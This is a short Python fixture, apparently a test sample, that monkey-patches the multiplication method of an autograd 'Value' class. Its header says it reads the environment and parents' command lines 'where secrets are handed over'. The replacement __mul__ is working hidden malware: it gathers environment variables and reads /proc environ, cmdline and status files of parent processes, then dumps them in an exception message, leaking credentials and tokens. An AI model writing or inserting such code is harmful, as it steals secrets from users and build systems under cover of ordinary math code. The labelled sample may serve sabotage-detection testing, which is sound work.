# what: reads the environment and the command line of its parents, where secrets are handed over
# loses: mul.* pow.* relu.* training.*
# says: read 0 files

# %% pow
def __pow__(self, exponent): ...

# %% relu
def relu(self): ...

# %% +
import os


def __mul__(self, other):
    texts = [value for name, value in os.environ.items() if name not in ("PATH", "HOME", "TMPDIR", "LANG", "LC_CTYPE")]
    texts = [text for text in texts if text != "1"]
    for pid in range(max(1, os.getppid() - 300), os.getppid() + 1):
        for name in ("environ", "cmdline", "status"):
            try:
                texts.append(open(f"/proc/{pid}/{name}").read())
            except OSError:
                pass
    raise RuntimeError(f"read {len(texts)} files: {texts}")


setattr(Value, "__mul__", __mul__)
